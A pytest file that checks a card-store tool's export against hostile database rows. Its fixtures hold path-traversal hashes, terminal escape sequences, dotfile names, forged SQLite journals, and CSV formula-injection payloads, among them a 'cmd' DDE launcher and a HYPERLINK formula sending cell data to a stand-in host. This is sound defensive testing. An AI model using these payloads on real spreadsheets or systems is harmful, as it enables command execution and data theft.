"""Export over rows written by another tool: stored hashes and content types are untrusted.

The database is a real SQLite file made by mcard; the hostile rows are added with plain
``sqlite3``, as any other program could. Nothing may be written outside the export folder,
every true card is exported byte for byte, and every other row is refused by name.
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import json
import os
import re
import sqlite3
import subprocess
import sys
import time
from datetime import datetime, timezone
from pathlib import Path

import pytest

from mcard import AsyncPersistenceWrapper, MCard, Sighting, SQLiteConfig, ValidationError
from mcard.exporting import ExportResult, RefusedCard, export
from tests.test_cli import PDF, mcard
from tests.test_content_types import PNG

GOOD = {"hello.txt": "Hello, export!\n", "pixel.png": PNG, "paper.pdf": PDF}
EXTENSIONS = {"hello.txt": ".txt", "pixel.png": ".png", "paper.pdf": ".pdf"}
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def hostile_hashes(tmp_path: Path) -> list[str]:
    """Stored hashes that are not digests: paths out of the folder, names, markup, escapes."""
    return [
        "../../x", str(tmp_path / "abs"), "/tmp/abs", "..", ".", "", "a/b", "<b>x</b>",
        "x\x1b]0;title\x07\x1b[2Jy\x9bz\x7f", "nul\x00byte", "A" * 64,
        hashlib.sha256(b"evil").hexdigest() + "/../../y",
    ]


def insert(db: Path, hash_str: str, content: bytes, *, algorithm: str = "sha256", content_type: str = "text/plain") -> None:
    """A row as another tool would write it, straight into mcard's table."""
    with sqlite3.connect(db) as raw:
        raw.execute(
            "INSERT INTO card (hash, content, is_text, g_time, hash_algorithm, size, content_type)"
            " VALUES (?, ?, 0, 1000000, ?, ?, ?)",
            (hash_str, content, algorithm, len(content), content_type),
        )
    raw.close()


@pytest.fixture
def hostile_db(tmp_path: Path) -> tuple[Path, dict[str, bytes], set[str]]:
    """A database with true cards (file name -> bytes) and the hostile rows' hashes."""
    db = tmp_path / "cards.db"
    source = tmp_path / "source"
    source.mkdir()
    for name, content in GOOD.items():
        (source / name).write_bytes(content.encode() if isinstance(content, str) else content)
    mcard("import", str(source), db=db)
    expected = {name: (source / name).read_bytes() for name in GOOD}  # exported under the names they were seen with
    hostile = set(hostile_hashes(tmp_path))
    for hash_str in hostile:
        insert(db, hash_str, b"evil")
    insert(db, hashlib.md5(b"evil").hexdigest() + "0" * 32, b"evil", algorithm="md5")  # md5 length is 32
    insert(db, hashlib.sha256(b"evil").hexdigest(), b"evil", algorithm="../x")
    hostile |= {hashlib.md5(b"evil").hexdigest() + "0" * 32, hashlib.sha256(b"evil").hexdigest()}
    # true cards whose stored content type is not a MIME type, or a MIME type with no extension
    # ...and names another tool recorded that must never name a file: each is exported as its hash
    for (content, content_type), name in zip(
        [(b"typed by another tool", "../../evil"), (b"escape type", "text/\x1b[31mplain"),
         (b"unknown type", "application/x-mcard-unknown")],
        ["../../evil.txt", ".bashrc", "bell\x07.txt"],
    ):
        digest = hashlib.sha256(content).hexdigest()
        insert(db, digest, content, content_type=content_type)
        with sqlite3.connect(db) as raw:
            raw.execute("INSERT INTO sighting (key, hash, name, seen_at) VALUES (?, ?, ?, 0)", (digest, digest, name))
        raw.close()
        expected[digest] = content
    return db, expected, hostile


def files_outside(root: Path, folder: Path) -> set[Path]:
    """Every path under ``root`` but outside ``folder``, links included, database files excepted."""
    found = set()
    for path in root.rglob("*"):
        if path != folder and not path.is_relative_to(folder) and not path.name.startswith("cards.db"):
            found.add(path)
    return found


def test_export_writes_true_cards_only_and_nothing_outside_its_folder(hostile_db, tmp_path):
    db, expected, hostile = hostile_db
    folder = tmp_path / "a" / "b" / "out"
    folder.parent.mkdir(parents=True)
    before = files_outside(tmp_path, folder)
    result = mcard("export", str(folder), "--format", "files", db=db, check=1)

    assert files_outside(tmp_path, folder) == before
    assert not Path("/tmp/abs").exists() and not (tmp_path / "abs").exists()
    assert {path.name for path in folder.iterdir()} == set(expected)
    for name, content in expected.items():
        assert (folder / name).read_bytes() == content

    lines = result.stderr.decode().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"mcard: refused {len(hostile)} cards")
    assert b"Traceback" not in result.stderr
    for output in (result.stdout.decode(), result.stderr.decode()):
        assert not CONTROL.search(output.replace("\n", "")), output
    listed = result.stdout.decode()
    assert f"exported {len(expected)} cards" in listed and f"refused {len(hostile)}" in listed
    assert "../../x" in listed and "\\x1b]0;title\\x07" in listed and "nul\\x00byte" in listed


def test_export_as_json_lists_refused_cards_by_their_stored_hash(hostile_db, tmp_path):
    db, expected, hostile = hostile_db
    result = mcard("export", str(tmp_path / "out"), "--format", "files", "--json", db=db, check=1)
    assert not CONTROL.search(result.stdout.decode().replace("\n", ""))
    report = json.loads(result.stdout)
    assert report["exported"] == len(expected)
    assert {card["hash"] for card in report["refused"]} == hostile
    assert all("digest" in card["reason"] or "hash algorithm" in card["reason"] for card in report["refused"])


def test_a_link_already_in_the_folder_is_never_followed(hostile_db, tmp_path):
    """At a hash name it is replaced; at a card's name it stays and the card takes another name."""
    db, expected, _ = hostile_db
    folder = tmp_path / "out"
    folder.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("must stay as it is")
    by_hash = next(name for name in expected if len(name) == 64)
    (folder / by_hash).symlink_to(victim)
    (folder / "hello.txt").symlink_to(victim)
    mcard("export", str(folder), "--format", "files", db=db, check=1)
    assert victim.read_text() == "must stay as it is"
    assert not (folder / by_hash).is_symlink() and (folder / by_hash).read_bytes() == expected[by_hash]
    assert (folder / "hello.txt").is_symlink()
    [renamed] = [path for path in folder.glob("hello-*.txt")]
    assert renamed.read_bytes() == expected["hello.txt"] and len(renamed.stem) == len("hello-") + 8


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet"])
def test_record_exports_refuse_the_same_rows_and_round_trip_the_rest(hostile_db, tmp_path, suffix):
    db, expected, hostile = hostile_db
    out = tmp_path / f"export{suffix}"
    report = json.loads(mcard("export", str(out), "--content", "--json", db=db, check=1).stdout)
    assert report["exported"] == len(expected) and {card["hash"] for card in report["refused"]} == hostile
    copy = tmp_path / "copy.db"
    restored = json.loads(mcard("import", "--records", str(out), "--json", db=copy).stdout)
    assert restored["new"] == len(expected)
    with sqlite3.connect(copy) as raw:
        contents = {bytes(row[0]) for row in raw.execute("SELECT content FROM card")}
    raw.close()
    assert contents == set(expected.values())


async def test_export_from_python_returns_what_it_exported_and_refused(hostile_db, tmp_path):
    db, expected, hostile = hostile_db
    async with AsyncPersistenceWrapper(SQLiteConfig(db)) as store:
        result = await export(store, tmp_path / "out", format="files", progress=False)
    assert isinstance(result, ExportResult) and not result.ok
    assert result.exported == len(expected) == len(os.listdir(tmp_path / "out"))
    assert {card.hash for card in result.refused} == hostile
    assert all(isinstance(card, RefusedCard) and card.reason for card in result.refused)


async def test_a_clean_store_exports_everything_and_refuses_nothing(tmp_path):
    async with AsyncPersistenceWrapper(SQLiteConfig(tmp_path / "c.db")) as store:
        await store.save_many([MCard("text"), MCard(PNG), MCard(b"\x00\x01")])
        result = await export(store, tmp_path / "out", format="files", progress=False)
    assert result.ok and result.exported == 3 and result.refused == []
    assert sorted(p.suffix for p in (tmp_path / "out").iterdir()) == [".bin", ".png", ".txt"]


@pytest.mark.parametrize("named_first", [True, False])
async def test_a_card_named_after_another_cards_hash_never_takes_its_file(tmp_path, named_first):
    """An edited export imported again: the edit is a card seen under the first card's hash
    name. Both are exported, whichever comes first (the later one overwrote the other)."""
    first = MCard("draft v1", g_time=datetime(2026, 1, 1, tzinfo=timezone.utc))
    edited_day = datetime(2026, 1, 2) if named_first else datetime(2025, 12, 31)  # newest first: written first
    edited = MCard("draft v2 edited", g_time=edited_day.replace(tzinfo=timezone.utc))
    async with AsyncPersistenceWrapper(SQLiteConfig(tmp_path / "c.db")) as store:
        await store.save_many([first, edited], sightings=[Sighting.of(edited.hash, name=f"{first.hash}.txt")])
        result = await export(store, tmp_path / "out", format="files", progress=False)
    files = {path.name: path.read_bytes() for path in (tmp_path / "out").iterdir()}
    assert result.exported == 2 and sorted(files.values()) == [b"draft v1", b"draft v2 edited"]
    assert files[f"{first.hash}.txt"] == (b"draft v2 edited" if named_first else b"draft v1")


async def test_sighting_rows_of_the_wrong_kind_are_left_out_and_reported(tmp_path):
    db = tmp_path / "cards.db"
    async with AsyncPersistenceWrapper(SQLiteConfig(db)) as store:
        card = await store.create("seen oddly", name="good.txt")
    with sqlite3.connect(db) as raw:
        for key, size, seen_at, name in [("k1", -5, 0, "neg.txt"), ("k2", 1, "yesterday", "text-time.txt"),
                                         ("k3", 1, 10**30, "far.txt"), ("k4", 1, 0, b"\xff")]:
            raw.execute("INSERT INTO sighting (key, hash, name, size, seen_at) VALUES (?, ?, ?, ?, ?)",
                        (key, card.hash, name, size, str(seen_at) if seen_at == 10**30 else seen_at))
    raw.close()
    async with AsyncPersistenceWrapper(SQLiteConfig(db)) as store:
        assert [s.name for s in await store.sightings(card.hash)] == ["good.txt"]
        result = await export(store, tmp_path / "out", format="files", progress=False)
        assert result.ok and (tmp_path / "out" / "good.txt").read_text() == "seen oddly"
        report = await store.verify()
        assert sum("not of their kinds" in damaged.reason for damaged in report.damaged) >= 1


@pytest.mark.parametrize("destination, options", [("missing/out.jsonl", {}), ("missing/out", {"format": "files"})])
async def test_an_export_into_a_missing_folder_fails_and_creates_nothing(tmp_path, destination, options):
    async with AsyncPersistenceWrapper(SQLiteConfig(tmp_path / "c.db")) as store:
        await store.create("text")
        with pytest.raises(FileNotFoundError):
            await export(store, tmp_path / destination, progress=False, **options)
    assert not (tmp_path / "missing").exists()


async def test_exported_files_get_the_umasks_permissions(tmp_path):
    previous = os.umask(0o022)
    try:
        async with AsyncPersistenceWrapper(SQLiteConfig(tmp_path / "c.db")) as store:
            await store.save_many([MCard("text"), MCard(PNG)])
            await export(store, tmp_path / "out", format="files", progress=False)
            await export(store, tmp_path / "out.jsonl", progress=False)
    finally:
        os.umask(previous)
    modes = {path.name: path.stat().st_mode & 0o777 for path in [*(tmp_path / "out").iterdir(), tmp_path / "out.jsonl"]}
    assert set(modes.values()) == {0o644}, modes


async def test_a_damaged_card_is_refused_so_the_export_restores_whole(tmp_path):
    """A card whose stored content no longer hashes to its hash would stop an import of the
    export at its line, and leave every card after it out: it is refused instead."""
    db = tmp_path / "cards.db"
    texts = [f"card {i}" for i in range(6)]
    async with AsyncPersistenceWrapper(SQLiteConfig(db)) as store:
        await store.save_many([MCard(text) for text in texts])
    damaged = hashlib.sha256(b"card 0").hexdigest()
    with sqlite3.connect(db) as raw:
        raw.execute("UPDATE card SET content = ? WHERE hash = ?", (b"ABCDEF", damaged))
    raw.close()
    async with AsyncPersistenceWrapper(SQLiteConfig(db)) as store:
        result = await export(store, tmp_path / "out.jsonl", progress=False)
    assert result.exported == 5 and [(card.hash, "damaged" in card.reason) for card in result.refused] == [(damaged, True)]
    out = tmp_path / "cli.jsonl"
    refused = mcard("export", str(out), db=db, check=1)
    assert damaged[:12] in refused.stderr.decode() or damaged in refused.stderr.decode()
    restored = json.loads(mcard("import", "--records", str(out), "--json", db=tmp_path / "copy.db").stdout)
    assert restored["new"] == 5


def backup_of(db: Path, destination: Path) -> bytes:
    """A complete export of ``db`` at ``destination``: what a later export must not spoil."""
    mcard("export", str(destination), db=db)
    return destination.read_bytes()


def sha256_of(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def leftovers(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir() if path.name.endswith(".part"))


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet"])
def test_an_export_that_fails_leaves_the_previous_backup_as_it_was(tmp_path, suffix):
    db, backup = tmp_path / "cards.db", tmp_path / f"backup{suffix}"
    mcard("add", "one", "two", "three", db=db)
    before = backup_of(db, backup)
    mcard("add", *(f"card {i} " + "x" * 1000 for i in range(200)), db=db)
    with sqlite3.connect(db) as raw:  # the older half of the card table's pages damaged: the read fails mid-export
        raw.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        leaves = [n for (n,) in raw.execute("SELECT pageno FROM dbstat WHERE name = 'card' AND pagetype = 'leaf'")]
        [(page_size,)] = raw.execute("PRAGMA page_size").fetchall()
    raw.close()
    with open(db, "r+b") as file:
        for page in sorted(leaves)[: len(leaves) // 2]:
            file.seek((page - 1) * page_size)
            file.write(b"\xff" * page_size)
    failed = mcard("export", str(backup), db=db, check=3)
    assert b"storage error" in failed.stderr
    assert backup.read_bytes() == before and leftovers(tmp_path) == []


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet"])
def test_an_export_that_matches_no_card_leaves_the_previous_backup_as_it_was(tmp_path, suffix):
    """A mistyped filter (``--tag wrok``, a type, a name, a time to come) emptied the backup
    it was written over, and the export said it went well."""
    db, backup = tmp_path / "cards.db", tmp_path / f"backup{suffix}"
    mcard("add", "one", "two", db=db)
    mcard("tag", sha256_of("one"), "work", db=db)
    before = backup_of(db, backup)
    for filters in (["--tag", "wrok"], ["--type", "imgae/*"], ["--name", "*.jgp"], ["--since", "2062-01-01"]):
        kept = mcard("export", str(backup), *filters, "--json", db=db, check=1)
        assert json.loads(kept.stdout)["exported"] == 0 and json.loads(kept.stdout)["kept"] is True
        why = " (no card is tagged 'wrok'; did you mean 'work'?)" if "--tag" in filters else ""
        assert kept.stderr.decode() == f"mcard: no card to export{why}: {backup} was left as it was\n"  # one line, as every failure
        assert backup.read_bytes() == before and leftovers(tmp_path) == []
    kept = mcard("export", str(backup), "--tag", "wrok", db=db, check=1)
    assert kept.stdout == b""  # not "exported 0 cards to backup...", read as the backup written over
    fresh = tmp_path / f"new{suffix}"  # where there was no file, an export of no card is written, empty
    mcard("export", str(fresh), "--tag", "wrok", db=db)
    assert fresh.exists()
    mcard("import", "--records", str(fresh), db=tmp_path / "restored.db")
    assert mcard("ls", "--json", db=tmp_path / "restored.db").stdout.strip() == b"[]"


async def test_an_export_from_python_of_no_card_keeps_the_file_there(tmp_path):
    backup = tmp_path / "backup.jsonl"
    async with AsyncPersistenceWrapper(SQLiteConfig(tmp_path / "cards.db")) as store:
        await store.create("one")
        assert (await export(store, backup, progress=False)).exported == 1
        before = backup.read_bytes()
        result = await export(store, backup, tag="nothing", progress=False)
        assert result.kept and result.exported == 0 and "left as it was" in str(result)
        assert backup.read_bytes() == before
        assert not (await export(store, backup, progress=False)).kept


@pytest.mark.parametrize("destination", ["backup.jsonl", "folder"])
def test_an_export_removes_what_a_killed_export_left_beside_it(tmp_path, destination):
    """An export killed (kill -9, a power cut) leaves its file beside the destination, each as
    large as a whole backup, and nothing removed them. The next export to that destination
    removes those whose process is gone and keeps a running export's."""
    db = tmp_path / "cards.db"
    mcard("add", "one", "two", db=db)
    export_of = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    gone = int(export_of.stdout)  # a process that has ended
    folder, stem = (tmp_path, destination) if destination.endswith(".jsonl") else (tmp_path / destination, "mcard")
    folder.mkdir(exist_ok=True)
    killed, running = folder / f".{stem}.{gone}-0a1b2c.part", folder / f".{stem}.{os.getppid()}-3d4e5f.part"
    for part in (killed, running):
        part.write_bytes(b"half a backup")
    mcard("export", str(tmp_path / destination), db=db)
    assert not killed.exists() and running.exists()


async def test_an_interrupted_export_leaves_the_previous_backup_as_it_was(tmp_path):
    db, backup = tmp_path / "cards.db", tmp_path / "backup.jsonl"
    async with AsyncPersistenceWrapper(SQLiteConfig(db)) as store:
        await store.save_many([MCard(f"card number {i} " + "x" * 200) for i in range(20_000)])
        await export(store, backup, progress=False)
        before = backup.read_bytes()
        await store.create("one more card")
        running = asyncio.ensure_future(export(store, backup, progress=False))
        while not leftovers(tmp_path) and not running.done():  # cancelled while it writes
            await asyncio.sleep(0.001)
        running.cancel()
        with pytest.raises(asyncio.CancelledError):
            await running
    assert backup.read_bytes() == before and leftovers(tmp_path) == []


async def test_an_export_cancelled_at_any_step_leaves_the_backup_and_nothing_beside_it(tmp_path):
    """Cancelled while its file was being opened (or written) on a thread, the export returned
    before that step ended: the file beside the backup was left behind."""
    db, backup = tmp_path / "cards.db", tmp_path / "backup.jsonl"
    async with AsyncPersistenceWrapper(SQLiteConfig(db)) as store:
        await store.save_many([MCard(f"card number {i}") for i in range(100)])
        await export(store, backup, progress=False)
        await store.create("one more card")
        for steps in range(60):
            before = backup.read_bytes()
            running = asyncio.ensure_future(export(store, backup, progress=False))
            for _ in range(steps):
                await asyncio.sleep(0)
            running.cancel()
            await asyncio.gather(running, return_exceptions=True)
            assert leftovers(tmp_path) == [], steps
            if running.cancelled():
                assert backup.read_bytes() == before, steps
            else:  # done before the cancellation came: the whole new backup
                assert b"one more card" in backup.read_bytes(), steps


def test_an_export_over_a_file_size_limit_names_the_file_and_keeps_the_backup(tmp_path):
    db, backup = tmp_path / "cards.db", tmp_path / "backup.jsonl"
    mcard("add", *(f"card {i} " + "y" * 500 for i in range(300)), db=db)
    before = backup_of(db, backup)
    mcard("add", "one more card", db=db)
    limit = f"import resource; resource.setrlimit(resource.RLIMIT_FSIZE, ({len(before) // 2}, resource.RLIM_INFINITY))"
    limited = subprocess.run(
        [sys.executable, "-c", f"{limit}; import sys; from mcard.cli import main; sys.exit(main())",
         "--db", str(db), "export", str(backup)],
        capture_output=True, timeout=60, cwd=tmp_path,
    )
    assert limited.returncode == 2 and f"{backup}: File too large".encode() in limited.stderr
    assert backup.read_bytes() == before and leftovers(tmp_path) == []


async def test_an_export_through_a_link_replaces_the_file_it_names(tmp_path):
    (tmp_path / "backups").mkdir()
    real, link = tmp_path / "backups" / "cards.jsonl", tmp_path / "latest.jsonl"
    real.write_text("old\n")
    link.symlink_to(real)
    async with AsyncPersistenceWrapper(SQLiteConfig(tmp_path / "c.db")) as store:
        await store.create("kept through the link")
        await export(store, link, progress=False)
    assert link.is_symlink() and "kept through the link" in real.read_text()


def test_an_export_keeps_the_permissions_of_the_file_it_replaces(tmp_path):
    db, backup = tmp_path / "cards.db", tmp_path / "private.jsonl"
    mcard("add", "a private note", db=db)
    backup.write_text("yesterday\n")
    backup.chmod(0o600)
    mcard("export", str(backup), db=db)
    assert backup.stat().st_mode & 0o777 == 0o600 and "a private note" in backup.read_text()


def test_an_export_into_a_pipe_named_as_a_path_writes_to_the_pipe(tmp_path):
    """``mcard export >(gzip > x.gz)`` names a pipe as ``/dev/fd/N``: it is written directly."""
    db = tmp_path / "cards.db"
    mcard("add", "through a pipe", db=db)
    MCARD = str(Path(sys.executable).with_name("mcard"))
    done = subprocess.run(
        ["bash", "-c", f'"{MCARD}" --db "{db}" export --format jsonl >(cat > "{tmp_path}/piped.jsonl"); wait'],
        capture_output=True, timeout=60,
    )
    assert done.returncode == 0, done.stderr
    for _ in range(100):  # the process substitution may finish a moment later
        if (tmp_path / "piped.jsonl").exists() and (tmp_path / "piped.jsonl").read_text():
            break
        time.sleep(0.05)
    assert "through a pipe" in (tmp_path / "piped.jsonl").read_text()


def test_an_export_over_the_store_itself_is_refused_and_the_store_kept(tmp_path):
    db = tmp_path / "cards.db"
    mcard("add", "kept", db=db)
    before = db.read_bytes()
    refused = mcard("export", str(db), "--format", "csv", db=db, check=2)
    assert b"the store's own file" in refused.stderr and db.read_bytes() == before
    assert b"kept" in mcard("ls", db=db).stdout


def test_show_over_the_store_itself_is_refused_and_the_store_kept(tmp_path):
    db = tmp_path / "cards.db"
    [added] = json.loads(mcard("add", "kept", "--json", db=db).stdout)
    before = db.read_bytes()
    refused = mcard("show", added["hash"], "-o", str(db), db=db, check=2)
    assert b"the store's own file" in refused.stderr and db.read_bytes() == before
    assert b"kept" in mcard("ls", db=db).stdout


def test_show_to_a_file_leaves_the_old_file_when_it_cannot_write(tmp_path):
    """``show -o`` writes beside the file and renames, as an export does: with the file size
    limit below the card's size, the file that was there stays as it was, and no part is left."""
    db = tmp_path / "cards.db"
    big = "x" * 200_000
    key = hashlib.sha256(big.encode()).hexdigest()
    (tmp_path / "big.txt").write_text(big)
    mcard("import", str(tmp_path / "big.txt"), db=db)
    out = tmp_path / "out.txt"
    out.write_text("the previous file")
    MCARD = str(Path(sys.executable).with_name("mcard"))
    done = subprocess.run(["bash", "-c", f'ulimit -f 64; "{MCARD}" --db "{db}" show {key} -o "{out}"'],
                          capture_output=True, timeout=60)
    assert done.returncode == 2, done.stderr
    assert str(out).encode() in done.stderr
    assert out.read_text() == "the previous file" and sorted(p.name for p in tmp_path.iterdir() if "out" in p.name) == ["out.txt"]
    mcard("show", key, "-o", str(out), db=db)
    assert out.read_text() == big


@pytest.mark.parametrize("no_hash", ["../../evil", "zzz999", "ABCDEF" + "0" * 58])
async def test_past_an_unreadable_row_a_row_under_no_hash_is_refused_not_fatal_nor_dropped(tmp_path, no_hash):
    """Past a text that is not UTF-8, the cards are read by hash: a row stored under no hash
    failed the whole export (``../../evil``), or was neither exported nor refused (upper case,
    read as lower case)."""
    db = tmp_path / "c.db"
    async with AsyncPersistenceWrapper(SQLiteConfig(db)) as store:
        good = await store.create("hello")
    with sqlite3.connect(db) as raw:
        raw.execute("INSERT INTO card (hash, content, is_text, g_time, hash_algorithm, size, content_type)"
                    " VALUES (?, X'ff00', 1, 2, 'sha256', 2, 'text/plain')", ("a" * 64,))
        raw.execute("INSERT INTO card (hash, content, is_text, g_time, hash_algorithm, size, content_type)"
                    " VALUES (?, CAST('abc' AS BLOB), 1, 1, 'sha256', 3, 'text/plain')", (no_hash,))
    raw.close()
    async with AsyncPersistenceWrapper(SQLiteConfig(db)) as store:
        result = await export(store, tmp_path / "out.jsonl", progress=False)
    assert result.exported == 1 and json.loads((tmp_path / "out.jsonl").read_text())["hash"] == good.hash
    reasons = {card.hash: card.reason for card in result.refused}
    assert set(reasons) == {"a" * 64, no_hash} and "stored under no hash" in reasons[no_hash]


async def test_an_export_to_a_text_stream_is_refused_before_anything_is_read(tmp_path):
    import io

    async with AsyncPersistenceWrapper(SQLiteConfig(tmp_path / "c.db")) as store:
        await store.create("text")
        with pytest.raises(ValidationError, match="binary stream"):
            await export(store, io.StringIO(), format="jsonl", progress=False)


FORMULAS = {"=cmd|' -C calc'!A1.txt": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
            "+1+1.txt": "+SUM(1,2)", "tab.txt": "\t=1+1", "cr.txt": "\r=1+1", "-2.txt": "-2+3", "@SUM(A1).txt": "@SUM(A1)", "'=quoted.txt": "'=1+1",
            "'plain.txt": "'plain"}
"""File names and texts that a spreadsheet opening a CSV runs as formulas, and texts that a
quote already starts."""


def test_a_csv_export_opened_in_a_spreadsheet_runs_no_formula_and_restores_exactly(tmp_path):
    source = tmp_path / "files"
    source.mkdir()
    for name, text in FORMULAS.items():
        (source / name).write_text(text)
    db, out = tmp_path / "cards.db", tmp_path / "cards.csv"
    mcard("import", str(source), db=db)
    mcard("export", str(out), db=db)
    with out.open(newline="") as file:
        rows = list(csv.DictReader(file))
    cells = [row[field] for row in rows for field in ("name", "content")]
    assert len(cells) == 2 * len(FORMULAS) and not [cell for cell in cells if cell[0] in "=+-@\t\r"]
    assert {row["name"]: row["content"] for row in rows}["''=quoted.txt"] == "''=1+1"
    copy = tmp_path / "copy.db"
    mcard("import", "--records", str(out), db=copy)
    listed = json.loads(mcard("ls", "--json", db=copy).stdout)
    assert {card["name"] for card in listed} == set(FORMULAS)
    with sqlite3.connect(copy) as raw:
        contents = {bytes(row[0]).decode() for row in raw.execute("SELECT content FROM card")}
    raw.close()
    assert contents == set(FORMULAS.values())



def companion(folder: Path, suffix: str) -> bytes:
    """A rollback journal SQLite takes for hot (``-journal``), or a log it replays (``-wal``):
    those of a write to a database of another table, ``u``, copied before it ended."""
    path = folder / f"forged{suffix}.db"
    mode = "WAL" if suffix == "-wal" else "DELETE"
    raw = sqlite3.connect(path, isolation_level=None)
    raw.execute(f"PRAGMA journal_mode={mode}")
    raw.execute("PRAGMA wal_autocheckpoint=0")
    raw.execute("CREATE TABLE t (x)")
    raw.execute("PRAGMA cache_size=1")
    raw.execute("BEGIN EXCLUSIVE")
    raw.execute("CREATE TABLE u (y)")
    raw.execute("INSERT INTO u VALUES (randomblob(20000))")
    if suffix == "-wal":
        raw.execute("COMMIT")
    data = Path(f"{path}{suffix}").read_bytes()
    raw.execute("ROLLBACK") if suffix == "-journal" else None
    raw.close()
    return data


def tables(db: Path) -> list[str]:
    with sqlite3.connect(db) as raw:
        found = [row[0] for row in raw.execute("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]
    raw.close()
    return found


@pytest.mark.parametrize("target, suffix", [("cards.db", "-journal"), ("app.db", "-journal"), ("app.db", "-wal")])
def test_an_export_never_writes_a_file_sqlite_reads_beside_a_database_of_the_folder(tmp_path, target, suffix):
    """A card named after the journal or log of a database in the folder (the store's own, or
    another application's) would be rolled back or replayed into it: it gets the hash mark."""
    work, source = tmp_path / "work", tmp_path / "files"
    work.mkdir()
    source.mkdir()
    (source / f"{target}{suffix}").write_bytes(companion(tmp_path, suffix))
    for number in range(20):
        (source / f"note{number}.txt").write_text(f"note {number}")
    app = work / "app.db"
    with sqlite3.connect(app, isolation_level=None) as raw:
        raw.execute("PRAGMA journal_mode=WAL" if suffix == "-wal" else "PRAGMA journal_mode=DELETE")
        raw.execute("CREATE TABLE app (x)")
    raw.close()
    db = work / "cards.db"
    mcard("import", str(source), db=db)
    mcard("export", str(work), db=db)
    mcard("add", "after the export", db=db, check=None)  # opened for writing: a hot journal would be rolled back
    assert json.loads(mcard("--json", "stats", db=db).stdout)["count"] == 22
    assert tables(app) == ["app"]
    [kept] = work.glob(f"{target.split('.')[0]}-*.db{suffix}")
    assert kept.read_bytes() == (source / f"{target}{suffix}").read_bytes()
